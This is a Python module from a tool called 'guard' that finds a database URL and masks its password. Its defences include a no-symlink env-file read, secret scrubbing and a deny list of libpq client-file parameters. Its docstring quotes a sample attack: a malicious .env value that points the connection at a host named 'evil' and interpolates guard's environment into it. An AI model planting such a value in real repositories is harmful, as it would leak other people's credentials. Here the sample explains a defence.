"""Where the database URL comes from, and how it is shown: never with its password.

Order: `health.db-url` (or GUARD_HEALTH_DB_URL), else the variable `health.db-url-env` names, else
DB_URL, else DATABASE_URL; those variables are looked up in the environment first and only then in
the root's .env file (python-dotenv), so the environment always wins over the file. The .env file
is read, never loaded into os.environ: the alert command must not inherit its secrets. There is no built-in fallback URL.

The .env file is the repository's, so it is read with python-dotenv's ${VAR} interpolation off: a
cloned repo's `DB_URL=postgresql:///x?host=evil&options=${GUARD_AUDIT_URL}` must not send guard's own
environment to a host it chose (issue 16, attack 2). And a relative env-file (the default `.env`)
must stay in the root: it is opened one component at a time from the root's descriptor with no
link followed, and parsed from the bytes that open read. A check of the path followed by a second
open by path let the project's owner swap a folder for a symlink in between, and root's `guard
health` read root's own private .env elsewhere (issue 16, attack 20).
"""

from __future__ import annotations

import errno
import os
from collections.abc import Mapping
from dataclasses import dataclass
from dataclasses import field
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

from guard.errors import ConfigError
from guard.printable import printable
from guard.redact import is_credential_name
from guard.redact import scrub

if TYPE_CHECKING:
    from sqlalchemy.engine import URL

    from guard.config import Config

DEFAULT_VARIABLES = ('DB_URL', 'DATABASE_URL')
MASK = '***'  # SQLAlchemy's own mask (render_as_string(hide_password=True)), kept for the query values too


@dataclass(frozen=True)
class DatabaseUrl:
    """A resolved URL. `masked` is safe to show anywhere; the real URL is only for the driver."""

    masked: str
    source: str  # e.g. 'DB_URL in the environment', 'DATABASE_URL in /srv/app/.env'
    secret: str = field(repr=False)
    # Read from a file in the repository (the root's .env): the driver gets only what the URL says,
    # none of guard's own credentials (PGPASSWORD, ~/.pgpass, a service file...): see guard.health.engine.
    from_repository: bool = field(default=False, repr=False)

    def secrets(self) -> tuple[str, ...]:
        """Strings that must never appear in output: the password, raw and URL-encoded."""
        from urllib.parse import quote
        from urllib.parse import quote_plus
        from urllib.parse import unquote

        url = parse(self.secret, self.source)
        values = [url.password or ''] + [v for k, v in _query_items(url) if is_credential_name(k)]
        # A connection string inside a query value (`odbc_connect=DRIVER=…;UID=sa;PWD=X`): its credentials too.
        values += [
            nested.partition('=')[2]
            for _, v in _query_items(url)
            for nested in unquote(v).split(';')
            if is_credential_name(nested.partition('=')[0].strip())
        ]
        values += _userinfo_parts(self.secret, url.username or '')
        values += [unquote(v) for v in values]
        found = {form for v in values if len(v) >= 3 for form in (v, quote(v, safe=''), quote_plus(v))}
        return tuple(sorted(found, key=len, reverse=True))

    def scrub(self, text: str) -> str:
        """`text` with any secret of this URL replaced by the mask (driver messages may echo them).

        Drivers split a URL whose password holds an unencoded `@ : / # ?` differently from SQLAlchemy
        (libpq's "could not translate host name "rest-of-password@host""), so every piece of the
        userinfo is a secret too, not just the password SQLAlchemy parsed (issue 16, finding 13)."""
        placeholder = '\x00url\x00'
        text = text.replace(self.secret, placeholder)
        for secret in self.secrets():
            text = text.replace(secret, MASK)
        return scrub(text).replace(placeholder, self.masked)  # and whatever else looks like a credential


def resolve(
    config: Config, root: Path, environ: Mapping[str, str] | None = None, *, root_fd: int | None = None
) -> DatabaseUrl:
    """The database URL for `root`, or a ConfigError saying everywhere guard looked.

    `root_fd` is the root as already pinned (the daemon's); without it the root is opened here, with
    no link followed on the way, and the env file is read through that descriptor."""
    environ = os.environ if environ is None else environ
    settings = config.health
    if settings.db_url:
        return _make(settings.db_url, 'health.db-url')
    names = (settings.db_url_env,) if settings.db_url_env else DEFAULT_VARIABLES
    env_file = root / settings.env_file if settings.env_file else None
    # An absolute env-file came from a trusted layer (guard.trust drops it from an untrusted one).
    if env_file is None:
        file_values = None
    elif os.path.isabs(settings.env_file):
        file_values = _read_trusted_env_file(env_file)
    else:
        file_values = _read_env_file_beneath(root, settings.env_file, root_fd)
    # The whole environment before the file: a deployment's DATABASE_URL beats a stale DB_URL in .env.
    for name in names:
        if environ.get(name):
            return _make(environ[name], f'{name} in the environment')
    for name in names:
        if file_values and file_values.get(name):
            found = _make(file_values[name] or '', f'{name} in {printable(env_file)}')
            if not os.path.isabs(settings.env_file):
                _refuse_driver_files(found)
                found = replace(found, from_repository=True)
            return found
    raise ConfigError(_missing_message(names, config, env_file, file_values is not None))


# libpq reads these files (or a service file naming more) on the client: from a URL the repository
# wrote, they would make guard read, and present as its own, files outside the root.
# https://www.postgresql.org/docs/current/libpq-connect.html#LIBPQ-PARAMKEYWORDS
DRIVER_FILE_PARAMETERS = frozenset(
    {'passfile', 'service', 'sslcert', 'sslkey', 'sslrootcert', 'sslcrl', 'sslcrldir', 'sslpassword'}
)


def _refuse_driver_files(url: DatabaseUrl) -> None:
    """A URL from the repository's own env file may not point the driver at client files (key, cert,
    password or service file): set such a URL in the environment or a trusted config instead."""
    named = sorted(k for k, _ in _query_items(parse(url.secret, url.source)) if k.lower() in DRIVER_FILE_PARAMETERS)
    if named:
        raise ConfigError(
            f"{url.source}: the URL names client files ({', '.join(named)}); a project's env file may "
            'not: set this URL in the environment or health.db-url in a trusted config'
        )


def parse(raw: str, source: str) -> URL:
    """An SQLAlchemy URL object; a bad one is a ConfigError that does not echo the value."""
    from sqlalchemy.engine import make_url
    from sqlalchemy.exc import ArgumentError

    try:
        return make_url(raw.strip())
    except (ArgumentError, ValueError):
        raise ConfigError(f'{source}: not a database URL (expected dialect://user:password@host/dbname)') from None


def mask(url: URL) -> str:
    """The URL as text with the password replaced by ***, and every query value but a plain one: default-deny,
    as an excerpt is. A value under a credential's name goes whatever it holds, and so does any that is not
    a plain word, number or path (`odbc_connect=DRIVER%3D…%3BPWD%3DX` holds a whole connection string)."""
    if not all(_plain_query_value(k, v) for k, v in _query_items(url)):
        query = {
            k: (v if all(_plain_query_value(k, one) for one in ((v,) if isinstance(v, str) else v)) else MASK)
            for k, v in url.query.items()
        }
        url = url.set(query=query)
    # render_as_string URL-encodes the query's mask; put it back as people read it.
    return url.render_as_string(hide_password=True).replace('=%2A%2A%2A', '=' + MASK)


def _plain_query_value(key: str, value: str) -> bool:
    """`sslmode=require`, `connect_timeout=10`, `host=/run/postgresql`: shown; a credential's value never."""
    import re

    return not is_credential_name(key) and re.fullmatch(r'[A-Za-z0-9_.\-/]{0,64}', value) is not None


def _make(raw: str, source: str) -> DatabaseUrl:
    found = DatabaseUrl(masked='', source=source, secret=raw.strip())
    masked = mask(parse(raw, source))
    # SQLAlchemy splits at the first `@`: the rest of a password holding one would show as the host.
    for secret in found.secrets():
        masked = masked.replace(secret, MASK)
    return DatabaseUrl(masked=masked, source=source, secret=raw.strip())


def _read_trusted_env_file(path: Path) -> Mapping[str, str | None] | None:
    """An absolute env-file (from a trusted layer: guard.trust drops it from an untrusted one), as
    written (no ${VAR} interpolation), or None when there is no such file."""
    try:
        # O_NONBLOCK: a FIFO named as the env file must not hang the check.
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC)
    except (FileNotFoundError, NotADirectoryError):
        return None
    except OSError as e:
        raise ConfigError(f'{printable(path)}: cannot read: {e.strerror or e}') from None
    return _parse(fd, path)


def _read_env_file_beneath(root: Path, rel: str, root_fd: int | None) -> Mapping[str, str | None] | None:
    """A relative env-file, reached from the root's descriptor one component at a time with no link
    followed (a folder swapped for a symlink fails the open itself), or None when there is none."""
    from guard import ownfiles
    from guard.errors import UnsafeOperationError

    shown = printable(root / rel)
    norm = os.path.normpath(rel)
    if norm == '.' or norm == '..' or norm.startswith('../'):
        raise ConfigError(f'{shown}: leads outside the root: {_ONLY_INSIDE}')
    parent, _, name = norm.rpartition('/')
    try:
        base = os.dup(root_fd) if root_fd is not None else ownfiles.open_dir(root, private=False, owners=False)
        try:
            folder = ownfiles.open_dir(parent, base_fd=base, owners=False) if parent else os.dup(base)
        finally:
            os.close(base)
        try:
            fd = os.open(name, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK | os.O_CLOEXEC, dir_fd=folder)
        finally:
            os.close(folder)
    except (FileNotFoundError, NotADirectoryError):
        return None
    except UnsafeOperationError:
        raise ConfigError(f'{shown}: a folder on the way is a symlink: {_ONLY_INSIDE}') from None
    except OSError as e:
        if e.errno == errno.ELOOP:
            raise ConfigError(f'{shown}: is a symlink: {_ONLY_INSIDE}') from None
        raise ConfigError(f'{shown}: cannot read: {e.strerror or e}') from None
    return _parse(fd, root / rel)


_ONLY_INSIDE = (
    "guard reads a project's env file only inside the root, following no link; "
    'set health.env-file in a trusted config to read another'
)


def _parse(fd: int, path: Path) -> Mapping[str, str | None] | None:
    """The variables of the open file `fd` (closed here), parsed from the bytes read through it and
    never from a second open by path; None when it is no regular file (a folder, a FIFO)."""
    import io
    import stat

    from dotenv import dotenv_values

    try:
        with os.fdopen(fd, 'rb') as f:
            if not stat.S_ISREG(os.fstat(f.fileno()).st_mode):
                return None
            text = f.read().decode('utf-8')
    except (OSError, UnicodeDecodeError) as e:
        raise ConfigError(f'{printable(path)}: cannot read: {getattr(e, "strerror", None) or e}') from None
    return dotenv_values(stream=io.StringIO(text), interpolate=False)


def _userinfo_parts(raw: str, username: str) -> list[str]:
    """Every reading of the password a driver might make: whatever lies between the scheme and the
    last `@` of the URL (the greedy userinfo) after the user name, whole and split at `@ : / # ?`."""
    _, sep, rest = raw.strip().partition('://')
    if not sep or '@' not in rest:
        return []
    userinfo = rest.rpartition('@')[0]
    if userinfo == username:
        return []  # no password at all
    password = userinfo[len(username) + 1 :] if username and userinfo.startswith(username + ':') else userinfo
    import re

    return [password] + [piece for piece in re.split(r'[@:/#?]', password) if piece and piece != username]


def _query_items(url: URL) -> list[tuple[str, str]]:
    items = []
    for key, value in url.query.items():
        for one in (value,) if isinstance(value, str) else value:
            items.append((key, one))
    return items


def _missing_message(names: tuple[str, ...], config: Config, env_file: Path | None, file_exists: bool) -> str:
    variables = ' or '.join(names)
    settings_file = 'no config file' if config.source == 'defaults' else config.source
    places = 'the environment'
    if env_file is not None:
        places += f' and in {printable(env_file)}' + ('' if file_exists else ' (no such file)')
    return (
        f'no database URL: looked for health.db-url ({settings_file}) and for {variables} in {places}; '
        'set one, or leave "database" out of health.checks'
    )
